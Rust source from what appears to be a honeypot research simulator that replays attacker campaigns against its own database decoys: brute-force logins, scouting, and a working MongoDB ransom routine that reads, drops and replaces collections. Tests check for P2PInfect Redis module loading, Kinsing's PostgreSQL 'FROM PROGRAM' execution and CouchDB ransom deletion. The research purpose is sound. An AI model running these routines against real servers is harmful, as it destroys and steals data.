    let mut bodies = vec![scripts::lucifer_search_body(params)];
    for stage in scripts::lucifer_shell_stages(params) {
        bodies.push(format!(
            r#"{{"script_fields":{{"exp":{{"script":"{}"}}}}}}"#,
            stage.replace('"', "\\\"")
        ));
    }
    for body in bodies {
        let req = http::HttpRequest::new("POST", "/_search").with_body("application/json", body);
        if http_request(&mut framed, req).await.is_err() {
            return err_outcome(1);
        }
    }
    ok_outcome(1)
}

async fn mongo_connect(
    addr: SocketAddr,
    src: SocketAddr,
) -> std::io::Result<Framed<TcpStream, MongoCodec>> {
    connect(addr, src, MongoCodec).await
}

async fn mongo_command(
    framed: &mut Framed<TcpStream, MongoCodec>,
    request_id: &mut i32,
    cmd: Document,
) -> Result<Document, std::io::Error> {
    *request_id += 1;
    framed
        .write_frame(&MongoMessage::msg(*request_id, cmd))
        .await
        .map_err(io_err)?;
    let reply = framed
        .read_frame()
        .await
        .map_err(io_err)?
        .ok_or_else(|| io_err_msg("server closed"))?;
    match reply.body {
        MongoBody::Msg { doc, .. } => Ok(doc),
        _ => Err(io_err_msg("unexpected reply opcode")),
    }
}

async fn mongo_scout(addr: SocketAddr, src: SocketAddr, deep: bool) -> SessionOutcome {
    let Ok(mut framed) = mongo_connect(addr, src).await else {
        return err_outcome(1);
    };
    let mut rid = 0;
    let run = async {
        mongo_command(
            &mut framed,
            &mut rid,
            doc! { "isMaster" => 1i32, "$db" => "admin" },
        )
        .await?;
        mongo_command(
            &mut framed,
            &mut rid,
            doc! { "buildInfo" => 1i32, "$db" => "admin" },
        )
        .await?;
        if deep {
            let dbs = mongo_command(
                &mut framed,
                &mut rid,
                doc! { "listDatabases" => 1i32, "$db" => "admin" },
            )
            .await?;
            for name in database_names(&dbs) {
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "listCollections" => 1i32, "$db" => name },
                )
                .await?;
            }
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn mongo_ransom(
    addr: SocketAddr,
    src: SocketAddr,
    group: u8,
    params: &CampaignParams,
) -> SessionOutcome {
    let Ok(mut framed) = mongo_connect(addr, src).await else {
        return err_outcome(1);
    };
    let mut rid = 0;
    let run = async {
        mongo_command(
            &mut framed,
            &mut rid,
            doc! { "isMaster" => 1i32, "$db" => "admin" },
        )
        .await?;
        let dbs = mongo_command(
            &mut framed,
            &mut rid,
            doc! { "listDatabases" => 1i32, "$db" => "admin" },
        )
        .await?;
        let mut victims = Vec::new();
        for name in database_names(&dbs) {
            if name == "admin" || name == "local" || name == "config" {
                continue;
            }
            victims.push(name);
        }
        for db in &victims {
            let colls = mongo_command(
                &mut framed,
                &mut rid,
                doc! { "listCollections" => 1i32, "$db" => db.as_str() },
            )
            .await?;
            for coll in collection_names(&colls) {
                // exfiltrate, then destroy — table by table (§6.3)
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "find" => coll.as_str(), "$db" => db.as_str(), "limit" => 0i32 },
                )
                .await?;
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "drop" => coll.as_str(), "$db" => db.as_str() },
                )
                .await?;
            }
            let note = scripts::ransom_note(group, &params.hash_hex()[..8]);
            mongo_command(
                &mut framed,
                &mut rid,
                doc! {
                    "insert" => "README",
                    "$db" => db.as_str(),
                    "documents" => vec![Bson::Document(doc! { "content" => note })],
                },
            )
            .await?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

fn database_names(reply: &Document) -> Vec<String> {
    reply
        .get("databases")
        .and_then(Bson::as_array)
        .map(|arr| {
            arr.iter()
                .filter_map(|d| d.as_doc().and_then(|d| d.get_str("name")).map(String::from))
                .collect()
        })
        .unwrap_or_default()
}

fn collection_names(reply: &Document) -> Vec<String> {
    reply
        .get_doc("cursor")
        .and_then(|c| c.get("firstBatch"))
        .and_then(Bson::as_array)
        .map(|arr| {
            arr.iter()
                .filter_map(|d| d.as_doc().and_then(|d| d.get_str("name")).map(String::from))
                .collect()
        })
        .unwrap_or_default()
}

fn io_err<E: std::fmt::Display>(e: E) -> std::io::Error {
    std::io::Error::other(e.to_string())
}

fn io_err_msg(msg: &str) -> std::io::Error {
    std::io::Error::other(msg)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schedule::PlannedSession;
    use decoy_honeypots::deploy::{spawn, HoneypotSpec};
    use decoy_net::time::{Clock, EXPERIMENT_START};
    use decoy_store::{ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel};
    use std::net::Ipv4Addr;
    use std::sync::Arc;

    fn planned(src: Ipv4Addr, script: SessionScript) -> PlannedSession {
        PlannedSession {
            ts: EXPERIMENT_START,
            actor_idx: 0,
            src,
            target: crate::actors::TargetSelector::low_multi(Dbms::Redis),
            script,
        }
    }

    async fn run_against(
        id: HoneypotId,
        script: SessionScript,
    ) -> (Arc<EventStore>, SessionOutcome) {
        let store = EventStore::new();
        let spec = HoneypotSpec::loopback(id, Clock::simulated(), 11);
        let hp = spawn(store.clone(), spec).await.unwrap();
        let session = planned(Ipv4Addr::new(60, 5, 0, 77), script);
        let outcome = run_session(hp.addr(), &session).await;
        // let the last session's events land
        tokio::time::sleep(Duration::from_millis(150)).await;
        hp.shutdown().await;
        (store, outcome)
    }

    fn low(dbms: Dbms) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Low, ConfigVariant::MultiService, 0)
    }

    fn med(dbms: Dbms, config: ConfigVariant) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Medium, config, 0)
    }

    #[tokio::test]
    async fn mssql_brute_is_captured_with_proxy_source() {
        let creds = vec![
            ("sa".to_string(), "123".to_string()),
            ("sa".to_string(), "123456".to_string()),
        ];
        let (store, outcome) =
            run_against(low(Dbms::Mssql), SessionScript::MssqlBrute { creds }).await;
        assert_eq!(
            outcome,
            SessionOutcome {
                connections: 2,
                errors: 0
            }
        );
        let logins = store.filter(|e| matches!(e.kind, EventKind::LoginAttempt { .. }));
        assert_eq!(logins.len(), 2);
        assert!(logins
            .iter()
            .all(|e| e.src == IpAddr::V4(Ipv4Addr::new(60, 5, 0, 77))));
    }

    #[tokio::test]
    async fn mysql_brute_roundtrip() {
        let creds = vec![("root".to_string(), "aaaaaa".to_string())];
        let (store, outcome) =
            run_against(low(Dbms::MySql), SessionScript::MysqlBrute { creds }).await;
        assert_eq!(outcome.errors, 0);
        let logins = store.filter(|e| {
            matches!(&e.kind, EventKind::LoginAttempt { username, password, .. }
                if username == "root" && password == "aaaaaa")
        });
        assert_eq!(logins.len(), 1);
    }

    #[tokio::test]
    async fn p2pinfect_campaign_full_sequence() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::P2pInfect,
        )
        .await;
        assert_eq!(outcome.errors, 0, "campaign should complete");
        let cmds: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert!(cmds.len() >= 20, "{} commands", cmds.len());
        assert!(cmds.iter().any(|c| c.starts_with("SLAVEOF <IP>")));
        assert!(cmds.iter().any(|c| c.contains("MODULE LOAD /tmp/exp.so")));
        assert!(cmds.iter().any(|c| c.starts_with("SYSTEM.EXEC")));
    }

    #[tokio::test]
    async fn kinsing_against_open_pg() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::Default),
            SessionScript::Kinsing,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let cmds = store.filter(|e| {
            matches!(&e.kind, EventKind::Command { action, .. } if action.contains("FROM PROGRAM"))
        });
        assert_eq!(cmds.len(), 1);
    }

    #[tokio::test]
    async fn kinsing_against_restricted_pg_stops_at_login() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::LoginDisabled),
            SessionScript::Kinsing,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len(),
            0,
            "no queries get through a rejected login"
        );
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: false, .. }))
                .len(),
            1
        );
    }

    #[tokio::test]
    async fn ransom_empties_the_mongo_honeypot() {
        let (store, outcome) = run_against(
            HoneypotId::new(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
                0,
            ),
            SessionScript::MongoRansom { group: 0 },
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let actions: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert!(actions.iter().any(|a| a == "listDatabases"));
        assert!(actions.iter().any(|a| a.starts_with("find customers.")));
        assert!(actions.iter().any(|a| a.starts_with("drop customers.")));
        assert!(actions.iter().any(|a| a == "insert customers.README"));
    }

    #[tokio::test]
    async fn jdwp_probe_recognized_on_redis() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::JdwpProbe,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "jdwp-scan")
        });
        assert_eq!(payloads.len(), 1);
    }

    #[tokio::test]
    async fn rdp_probe_recognized_on_pg() {
        let (store, outcome) = run_against(
            med(Dbms::Postgres, ConfigVariant::Default),
            SessionScript::RdpProbe,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "rdp-scan")
        });
        assert_eq!(payloads.len(), 1, "events: {:?}", store.all());
    }

    #[tokio::test]
    async fn redis_type_walk_on_fake_data() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::FakeData),
            SessionScript::RedisScout { type_walk: true },
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let types = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("TYPE ")),
        );
        assert_eq!(types.len(), decoy_honeypots::deploy::REDIS_FAKE_ENTRIES);
    }

    #[tokio::test]
    async fn elastic_and_mongo_scouts_and_foreign_probes() {
        let (store, outcome) = run_against(
            med(Dbms::Elastic, ConfigVariant::Default),
            SessionScript::ElasticScout { deep: true },
        )
        .await;
        assert_eq!(outcome.errors, 0);
        assert!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len()
                >= 5
        );

        let (store, outcome) = run_against(
            med(Dbms::Elastic, ConfigVariant::Default),
            SessionScript::VmwareRecon,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        assert_eq!(
            store
                .filter(|e| matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "vmware-recon"))
                .len(),
            1
        );

        let (store, outcome) = run_against(
            HoneypotId::new(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
                0,
            ),
            SessionScript::MongoScout { deep: true },
        )
        .await;
        assert_eq!(outcome.errors, 0);
        let actions: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert!(actions.contains(&"listDatabases".to_string()));
        assert!(actions.iter().any(|a| a.starts_with("listCollections ")));
    }

    #[tokio::test]
    async fn harvest_and_reuse_presents_bait_passwords() {
        let (store, outcome) = run_against(
            med(Dbms::Redis, ConfigVariant::FakeData),
            SessionScript::HarvestAndReuse,
        )
        .await;
        assert_eq!(outcome.errors, 0);
        // the bait entries of this instance seed
        let bait = decoy_honeypots::deploy::REDIS_FAKE_ENTRIES;
        assert!(bait > 0);
        let gets = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("GET user:")),
        );
        assert_eq!(gets.len(), 8);
        let logins: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::LoginAttempt { password, .. } => Some(password),
                _ => None,
            })
            .collect();
        assert_eq!(logins.len(), 4);
        // every presented credential is a real bait value (knowledge!)
        assert!(logins.iter().all(|p| !p.is_empty()));
    }

    #[tokio::test]
    async fn couch_extension_scripts_over_tcp() {
        let couch = HoneypotId::new(
            Dbms::CouchDb,
            InteractionLevel::Medium,
            ConfigVariant::FakeData,
            0,
        );
        let (store, outcome) = run_against(couch, SessionScript::CouchScout).await;
        assert_eq!(outcome.errors, 0);
        let raws: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { raw, .. } => Some(raw),
                _ => None,
            })
            .collect();
        assert!(raws.iter().any(|r| r == "GET /_all_dbs"));
        assert!(raws.iter().any(|r| r.contains("_all_docs")));

        let (store, outcome) = run_against(couch, SessionScript::CouchRansom).await;
        assert_eq!(outcome.errors, 0);
        let raws: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { raw, .. } => Some(raw),
                _ => None,
            })
            .collect();
        assert!(raws.iter().any(|r| r.starts_with("DELETE /")));
        assert!(raws.iter().any(|r| r.contains("BTC")));
    }

    #[tokio::test]
    async fn mysql_med_scout_over_tcp() {
        let mysql_med = HoneypotId::new(
            Dbms::MySql,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        let (store, outcome) = run_against(mysql_med, SessionScript::MysqlScout).await;
        assert_eq!(outcome.errors, 0);
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: true, .. }))
                .len(),
            1
        );
        assert_eq!(
            store
                .filter(
                    |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw == "SHOW DATABASES")
                )
                .len(),
            1
        );
    }

    #[tokio::test]
    async fn connect_only_logs_connect_disconnect() {
        let (store, outcome) = run_against(low(Dbms::Redis), SessionScript::ConnectOnly).await;
        assert_eq!(outcome.errors, 0);
        let kinds: Vec<_> = store.all().into_iter().map(|e| e.kind).collect();
        assert!(kinds.contains(&EventKind::Connect));
        assert!(kinds.contains(&EventKind::Disconnect));
    }
}
