#![warn(missing_docs)]
#![forbid(unsafe_code)]

//! # decoy-agents
//!
//! The attacker-population simulator — our substitute for the live Internet
//! traffic the paper's honeypots received over 20 days (see DESIGN.md's
//! substitution table).
//!
//! * [`credentials`] — brute-force credential corpora (Table 12's top
//!   MSSQL pairs, generated long-tail lists, the paper's single-combination
//!   PostgreSQL actors).
//! * [`scripts`] — per-session attack scripts: every campaign of Table 9
//!   and Listings 1–14, expressed as protocol-level intents.
//! * [`actors`] — the actor model: source address, activity window, visit
//!   rate, targets, script.
//! * [`population`] — cohort definitions calibrated to the paper's
//!   aggregates (country/AS mixes of Tables 5–7, the classification splits
//!   of Table 8, the campaign sizes of Table 9), scaled by a global factor.
//! * [`schedule`] — expands actors into a time-ordered session plan over
//!   the virtual 20-day window.
//! * [`driver`] — network mode: runs a planned session against a live
//!   honeypot over real TCP, announcing the actor's address via the PROXY
//!   protocol and speaking the real client protocol.
//! * [`direct`] — direct mode: emits the equivalent standardized events
//!   without TCP, for full-volume runs (an integration test asserts the two
//!   modes produce equivalent aggregates).
//!
//! Everything is deterministic in `(seed, scale)`.

pub mod actors;
pub mod credentials;
pub mod direct;
pub mod driver;
pub mod population;
pub mod schedule;
pub mod scripts;

pub use actors::{Actor, ActorScript, TargetSelector};
pub use population::{build_population, PopulationConfig};
pub use schedule::{build_schedule, PlannedSession};
pub use scripts::SessionScript;
