//! The actor model.
//!
//! An [`Actor`] is one remote IP with an activity window, a visit rate, a
//! set of honeypot targets, and a behavior that generates a
//! [`SessionScript`] per visit. Actors are produced by cohort in
//! [`crate::population`] and expanded into a time-ordered plan by
//! [`crate::schedule`].

use crate::credentials::{CredentialList, PG_SINGLE_COMBOS};
use crate::scripts::SessionScript;
use decoy_store::{ConfigVariant, Dbms, InteractionLevel};
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// Which honeypot group an actor visits (resolved to concrete instances by
/// the experiment runner).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct TargetSelector {
    /// DBMS family.
    pub dbms: Dbms,
    /// Interaction level.
    pub level: InteractionLevel,
    /// Restrict to one configuration variant (`None` = any instance).
    pub config: Option<ConfigVariant>,
}

impl TargetSelector {
    /// Low-interaction target on the multi-service VMs.
    pub fn low_multi(dbms: Dbms) -> Self {
        TargetSelector {
            dbms,
            level: InteractionLevel::Low,
            config: Some(ConfigVariant::MultiService),
        }
    }

    /// Low-interaction target on the single-service control VMs.
    pub fn low_single(dbms: Dbms) -> Self {
        TargetSelector {
            dbms,
            level: InteractionLevel::Low,
            config: Some(ConfigVariant::SingleService),
        }
    }

    /// Medium-interaction target (any config unless given).
    pub fn medium(dbms: Dbms, config: Option<ConfigVariant>) -> Self {
        TargetSelector {
            dbms,
            level: InteractionLevel::Medium,
            config,
        }
    }

    /// The high-interaction MongoDB fleet.
    pub fn high_mongo() -> Self {
        TargetSelector {
            dbms: Dbms::MongoDb,
            level: InteractionLevel::High,
            config: None,
        }
    }
}

/// What an actor does on each visit.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum ActorScript {
    /// Connect and leave.
    Scan,
    /// MSSQL credential stuffing with a total attempt budget.
    MssqlBruteforcer {
        /// Total attempts over the actor's lifetime.
        attempts_total: u64,
    },
    /// MySQL credential stuffing.
    MysqlBruteforcer {
        /// Total attempts over the actor's lifetime.
        attempts_total: u64,
    },
    /// The PostgreSQL single-combination pattern of §5.
    PgSingleCombo {
        /// Index into [`PG_SINGLE_COMBOS`].
        combo: usize,
        /// Times the same pair is retried per visit.
        repeats: u32,
    },
    /// Redis information gathering (KEYS/INFO; TYPE-walk on fake data).
    RedisScout {
        /// Walk each key with TYPE (the fake-data behavior).
        type_walk: bool,
    },
    /// Redis AUTH guessing (the 5-IP cluster of Table 9).
    RedisBrute,
    /// Elasticsearch scouting.
    ElasticScout {
        /// Deep scouting (indices + search).
        deep: bool,
    },
    /// MongoDB scouting.
    MongoScout {
        /// Enumerate databases/collections (institutional deep scouting).
        deep: bool,
    },
    /// PostgreSQL scouting (login + version probing).
    PgScout,
    /// Medium-PG brute-forcing (heavier against the restricted config, §6).
    PgMedBrute {
        /// Attempts per visit against login-disabled instances.
        burst: u32,
    },
    /// A fingerprinting scanner: probes each target's banner, capability
    /// flags, and error catalog the way anti-honeypot tooling does (the
    /// §7 arms-race adversary the `decoy-fingerprint` crate defends
    /// against).
    Fingerprinter,
    /// A Table 9 campaign, one script per visit.
    Campaign(SessionScript),
}

/// One simulated remote endpoint.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Actor {
    /// Stable identity; seeds per-actor randomness.
    pub id: u64,
    /// Source address (drawn from the actor's AS prefix).
    pub src: Ipv4Addr,
    /// Owning AS.
    pub asn: u32,
    /// Cohort name (diagnostics / EXPERIMENTS.md breakdowns).
    pub cohort: &'static str,
    /// First active day (0-based within the 20-day window).
    pub first_day: u32,
    /// Number of consecutive active days.
    pub active_days: u32,
    /// Mean visits per target per active day.
    pub visits_per_day: f64,
    /// The honeypot groups this actor contacts.
    pub targets: Vec<TargetSelector>,
    /// Behavior.
    pub behavior: ActorScript,
}

impl Actor {
    /// Generate the script for one visit to `target`. `visit_seq` counts
    /// visits so far; `total_visits` is the actor's lifetime visit count
    /// (used to spread login budgets).
    pub fn script_for_visit<R: Rng>(
        &self,
        target: &TargetSelector,
        visit_seq: u32,
        total_visits: u32,
        rng: &mut R,
    ) -> SessionScript {
        match &self.behavior {
            ActorScript::Scan => SessionScript::ConnectOnly,
            ActorScript::MssqlBruteforcer { attempts_total } => {
                if target.dbms != Dbms::Mssql {
                    return SessionScript::ConnectOnly;
                }
                let per_visit = per_visit_budget(*attempts_total, total_visits, visit_seq);
                let mut creds = CredentialList::mssql(self.id.wrapping_add(visit_seq as u64));
                SessionScript::MssqlBrute {
                    creds: creds.take(per_visit as usize),
                }
            }
            ActorScript::MysqlBruteforcer { attempts_total } => {
                if target.dbms != Dbms::MySql {
                    return SessionScript::ConnectOnly;
                }
                let per_visit = per_visit_budget(*attempts_total, total_visits, visit_seq);
                let mut creds = CredentialList::mysql(self.id.wrapping_add(visit_seq as u64));
                SessionScript::MysqlBrute {
                    creds: creds.take(per_visit as usize),
                }
            }
            ActorScript::PgSingleCombo { combo, repeats } => {
                let (user, password) = PG_SINGLE_COMBOS[combo % PG_SINGLE_COMBOS.len()];
                SessionScript::PgLogin {
                    user: user.into(),
                    password: password.into(),
                    repeats: *repeats,
                }
            }
            ActorScript::RedisScout { type_walk } => SessionScript::RedisScout {
                type_walk: *type_walk && target.config == Some(ConfigVariant::FakeData),
            },
            ActorScript::RedisBrute => {
                let n = rng.gen_range(3..8);
                SessionScript::RedisAuth {
                    passwords: (0..n)
                        .map(|i| format!("redis{}", (self.id as u32).wrapping_add(i) % 1000))
                        .collect(),
                }
            }
            ActorScript::ElasticScout { deep } => SessionScript::ElasticScout { deep: *deep },
            ActorScript::MongoScout { deep } => SessionScript::MongoScout { deep: *deep },
            ActorScript::PgScout => SessionScript::PgScout,
            ActorScript::PgMedBrute { burst } => {
                if target.config == Some(ConfigVariant::LoginDisabled) {
                    // aggressive credential attack against the restricted
                    // variant (§6: twice the attempts of the open one)
                    let mut creds = CredentialList::mssql(self.id ^ 0x5157);
                    let creds = creds
                        .take(*burst as usize)
                        .into_iter()
                        .map(|(_, p)| ("postgres".to_string(), p))
                        .collect::<Vec<_>>();
                    SessionScript::PgBrute { creds }
                } else {
                    // bot scripts log in once against the open config
                    SessionScript::PgLogin {
                        user: "postgres".into(),
                        password: "postgres".into(),
                        repeats: 1,
                    }
                }
            }
            ActorScript::Fingerprinter => SessionScript::FingerprintProbe,
            ActorScript::Campaign(script) => script.clone(),
        }
    }

    /// Total planned visits per target over the actor's lifetime (before
    /// Poisson noise).
    pub fn expected_visits(&self) -> f64 {
        self.active_days as f64 * self.visits_per_day
    }
}

/// Spread `total` over `visits` visits: every visit gets the base share,
/// the first visit absorbs the remainder.
fn per_visit_budget(total: u64, visits: u32, visit_seq: u32) -> u64 {
    let visits = visits.max(1) as u64;
    let base = total / visits;
    if visit_seq == 0 {
        base + total % visits
    } else {
        base
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn actor(behavior: ActorScript) -> Actor {
        Actor {
            id: 99,
            src: Ipv4Addr::new(60, 0, 0, 1),
            asn: 4134,
            cohort: "test",
            first_day: 0,
            active_days: 2,
            visits_per_day: 1.0,
            targets: vec![TargetSelector::low_multi(Dbms::Mssql)],
            behavior,
        }
    }

    #[test]
    fn budget_spreading_is_exact() {
        assert_eq!(per_visit_budget(10, 3, 0), 4);
        assert_eq!(per_visit_budget(10, 3, 1), 3);
        assert_eq!(per_visit_budget(10, 3, 2), 3);
        assert_eq!(per_visit_budget(5, 0, 0), 5);
        let total: u64 = (0..4).map(|v| per_visit_budget(1000, 4, v)).sum();
        assert_eq!(total, 1000);
    }

    #[test]
    fn mssql_brute_visits_carry_credentials() {
        let a = actor(ActorScript::MssqlBruteforcer { attempts_total: 20 });
        let mut rng = StdRng::seed_from_u64(0);
        let t = TargetSelector::low_multi(Dbms::Mssql);
        let s0 = a.script_for_visit(&t, 0, 2, &mut rng);
        let s1 = a.script_for_visit(&t, 1, 2, &mut rng);
        let (SessionScript::MssqlBrute { creds: c0 }, SessionScript::MssqlBrute { creds: c1 }) =
            (s0, s1)
        else {
            panic!("expected brute scripts");
        };
        assert_eq!(c0.len() + c1.len(), 20);
        // the same visit regenerates identical credentials (determinism)
        let s0_again = a.script_for_visit(&t, 0, 2, &mut rng);
        let SessionScript::MssqlBrute { creds: c0_again } = s0_again else {
            panic!();
        };
        assert_eq!(c0, c0_again);
    }

    #[test]
    fn bruteforcer_only_brutes_its_dbms() {
        let a = actor(ActorScript::MssqlBruteforcer { attempts_total: 10 });
        let mut rng = StdRng::seed_from_u64(0);
        let redis = TargetSelector::low_multi(Dbms::Redis);
        assert_eq!(
            a.script_for_visit(&redis, 0, 1, &mut rng),
            SessionScript::ConnectOnly
        );
    }

    #[test]
    fn type_walk_only_on_fake_data_instances() {
        let a = actor(ActorScript::RedisScout { type_walk: true });
        let mut rng = StdRng::seed_from_u64(0);
        let fake = TargetSelector::medium(Dbms::Redis, Some(ConfigVariant::FakeData));
        let plain = TargetSelector::medium(Dbms::Redis, Some(ConfigVariant::Default));
        assert_eq!(
            a.script_for_visit(&fake, 0, 1, &mut rng),
            SessionScript::RedisScout { type_walk: true }
        );
        assert_eq!(
            a.script_for_visit(&plain, 0, 1, &mut rng),
            SessionScript::RedisScout { type_walk: false }
        );
    }

    #[test]
    fn pg_med_brute_is_heavier_on_restricted_config() {
        let a = actor(ActorScript::PgMedBrute { burst: 40 });
        let mut rng = StdRng::seed_from_u64(0);
        let open = TargetSelector::medium(Dbms::Postgres, Some(ConfigVariant::Default));
        let closed = TargetSelector::medium(Dbms::Postgres, Some(ConfigVariant::LoginDisabled));
        let open_script = a.script_for_visit(&open, 0, 1, &mut rng);
        assert_eq!(open_script.connections_per_visit(), 1);
        let closed_script = a.script_for_visit(&closed, 0, 1, &mut rng);
        assert_eq!(closed_script.connections_per_visit(), 40);
    }

    #[test]
    fn campaign_scripts_pass_through() {
        let a = actor(ActorScript::Campaign(SessionScript::JdwpProbe));
        let mut rng = StdRng::seed_from_u64(0);
        let t = TargetSelector::medium(Dbms::Redis, None);
        assert_eq!(
            a.script_for_visit(&t, 0, 1, &mut rng),
            SessionScript::JdwpProbe
        );
        assert_eq!(a.expected_visits(), 2.0);
    }

    #[test]
    fn fingerprinter_probes_every_target_once() {
        let a = actor(ActorScript::Fingerprinter);
        let mut rng = StdRng::seed_from_u64(0);
        for t in [
            TargetSelector::medium(Dbms::Redis, None),
            TargetSelector::medium(Dbms::MySql, None),
            TargetSelector::high_mongo(),
        ] {
            let script = a.script_for_visit(&t, 0, 1, &mut rng);
            assert_eq!(script, SessionScript::FingerprintProbe);
            assert_eq!(script.connections_per_visit(), 1);
        }
    }

    #[test]
    fn pg_single_combo_repeats_same_pair() {
        let a = actor(ActorScript::PgSingleCombo {
            combo: 0,
            repeats: 3,
        });
        let mut rng = StdRng::seed_from_u64(0);
        let t = TargetSelector::low_multi(Dbms::Postgres);
        let SessionScript::PgLogin {
            user,
            password,
            repeats,
        } = a.script_for_visit(&t, 0, 1, &mut rng)
        else {
            panic!();
        };
        assert_eq!(user, "postgres");
        assert_eq!(password, "postgres");
        assert_eq!(repeats, 3);
    }
}
