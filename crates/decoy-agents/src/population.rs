//! The attacker population, calibrated to the paper's aggregates.
//!
//! Each cohort encodes one slice of the observed population: who they are
//! (AS/country pool), how long they stay (retention), how often they visit,
//! what they do (behavior), and where they go (targets). The counts and
//! volumes are the paper's published numbers at `scale = 1.0`; the
//! experiment runner typically runs scaled down, which preserves every
//! ratio the tables report.
//!
//! Calibration sources:
//! * §5 — 3,340 low-interaction sources; US 58 % / CN 10 % / GB 9.3 %;
//!   1,468 institutional; 18,162,811 login attempts of which 18,076,729
//!   MSSQL; Russia's 16.6 M driven by 4 IPs in AS208091 active 16–19 days.
//! * Table 5 — per-country login volumes and IP counts.
//! * Table 6 — per-AS source counts and login splits.
//! * Table 8 — medium/high population sizes and class splits.
//! * Table 9 — campaign sizes (P2PInfect 35, Kinsing 196, ransom 62, ...).
//! * §5 control group — 1,543 sources hit both instance groups, 177 only
//!   the single-service group, 1,620 only the multi-service group; 41 / 295
//!   brute-forcers are group-exclusive.

use crate::actors::{Actor, ActorScript, TargetSelector};
use crate::scripts::SessionScript;
use decoy_geo::GeoDb;
use decoy_store::{ConfigVariant, Dbms, InteractionLevel};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Global population parameters.
#[derive(Debug, Clone)]
pub struct PopulationConfig {
    /// Linear scale on cohort sizes and volumes (1.0 = paper scale).
    pub scale: f64,
    /// RNG seed; same `(seed, scale)` ⇒ identical population.
    pub seed: u64,
    /// Days in the observation window (the paper ran 20).
    pub days: u32,
    /// Include cohorts targeting the §7 extension honeypots (medium MySQL,
    /// CouchDB). Off by default so the paper-calibrated tables are
    /// unperturbed.
    pub extensions: bool,
}

impl PopulationConfig {
    /// Paper-scale configuration.
    pub fn paper(seed: u64) -> Self {
        PopulationConfig {
            scale: 1.0,
            seed,
            days: 20,
            extensions: false,
        }
    }

    /// A scaled-down configuration.
    pub fn scaled(seed: u64, scale: f64) -> Self {
        PopulationConfig {
            scale,
            seed,
            days: 20,
            extensions: false,
        }
    }

    /// Enable the §7 extension cohorts.
    pub fn with_extensions(mut self) -> Self {
        self.extensions = true;
        self
    }
}

/// How an actor picks its activity window.
#[derive(Debug, Clone, Copy)]
enum Retention {
    /// 1–3 days (most scanners; drives the 43 % single-day fraction).
    Short,
    /// 4–10 days.
    Medium,
    /// 15–20 days (institutional scanners, persistent exploiters).
    Long,
    /// Exactly this many days.
    Fixed(u32),
}

/// A weighted `(asn, country)` source pool.
#[derive(Debug, Clone)]
struct SourcePool {
    /// `(asn, country or None, weight)`.
    entries: Vec<(u32, Option<&'static str>, f64)>,
}

impl SourcePool {
    fn of(entries: &[(u32, Option<&'static str>, f64)]) -> Self {
        SourcePool {
            entries: entries.to_vec(),
        }
    }

    fn single(asn: u32, country: Option<&'static str>) -> Self {
        SourcePool {
            entries: vec![(asn, country, 1.0)],
        }
    }

    fn draw<R: Rng>(&self, geo: &GeoDb, rng: &mut R) -> (std::net::Ipv4Addr, u32) {
        let total: f64 = self.entries.iter().map(|e| e.2).sum();
